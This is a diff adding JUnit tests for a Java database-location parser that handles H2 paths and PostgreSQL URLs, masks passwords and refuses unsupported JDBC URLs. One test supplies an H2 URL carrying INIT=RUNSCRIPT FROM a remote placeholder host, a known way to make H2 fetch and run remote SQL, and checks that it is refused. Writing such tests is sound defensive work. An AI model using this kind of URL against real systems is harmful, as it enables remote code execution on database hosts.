@@ -1,0 +1,65 @@
+package org.positionstracker.db;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertNull;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import org.junit.jupiter.api.Test;
+
+class DatabaseLocationTests {
+    @Test
+    void urlSettingsThatRunSql_areRefused() {
+        IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
+                () -> DatabaseLocation.parse("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://example.invalid/x.sql'"));
+
+        assertTrue(e.getMessage().contains("INIT"), e.getMessage());
+    }
+
+    @Test
+    void aPath_isAnH2FileDatabase_migratedFromTheH2Folder() {
+        DatabaseLocation location = DatabaseLocation.parse("some/where/tracker");
+
+        assertTrue(location.isH2());
+        assertEquals("h2", location.vendor());
+        assertTrue(location.jdbcUrl().startsWith("jdbc:h2:file:"), location.jdbcUrl());
+    }
+
+    @Test
+    void aPostgresqlUrl_isUsedAsGiven_migratedFromThePostgresqlFolder() {
+        DatabaseLocation location = DatabaseLocation.parse("jdbc:postgresql://db.example:5432/tracker?sslmode=require");
+
+        assertFalse(location.isH2());
+        assertEquals("postgresql", location.vendor());
+        assertEquals("jdbc:postgresql://db.example:5432/tracker?sslmode=require", location.jdbcUrl());
+        assertNull(location.h2File());
+    }
+
+    @Test
+    void postgresqlWithoutTheEnvironmentVariables_leavesUserAndPasswordToTheDriver() {
+        // (only meaningful where the test JVM runs without TRACKER_DB_USER / TRACKER_DB_PASSWORD)
+        if (System.getenv("TRACKER_DB_USER") != null || System.getenv("TRACKER_DB_PASSWORD") != null) return;
+
+        DatabaseLocation location = DatabaseLocation.parse("jdbc:postgresql://localhost/tracker?user=tracker");
+
+        assertNull(location.user(), "not H2's sa: the URL's user= or the OS user applies");
+        assertNull(location.password());
+    }
+
+    @Test
+    void aPasswordInThePostgresqlUrl_isNeverShown() {
+        DatabaseLocation location = DatabaseLocation.parse("jdbc:postgresql://localhost/tracker?user=tracker&password=s3cret&ssl=true");
+
+        assertEquals("jdbc:postgresql://localhost/tracker?user=tracker&password=***&ssl=true", location.displayUrl());
+        assertFalse(location.toString().contains("s3cret"), location.toString());
+        assertEquals("jdbc:postgresql://localhost/tracker?password=***", DatabaseLocation.parse("jdbc:postgresql://localhost/tracker?password=x").displayUrl());
+    }
+
+    @Test
+    void otherJdbcUrls_areRefused() {
+        IllegalArgumentException e = assertThrows(IllegalArgumentException.class, () -> DatabaseLocation.parse("jdbc:mysql://localhost/tracker"));
+
+        assertTrue(e.getMessage().contains("jdbc:postgresql:"), e.getMessage());
+    }
+}
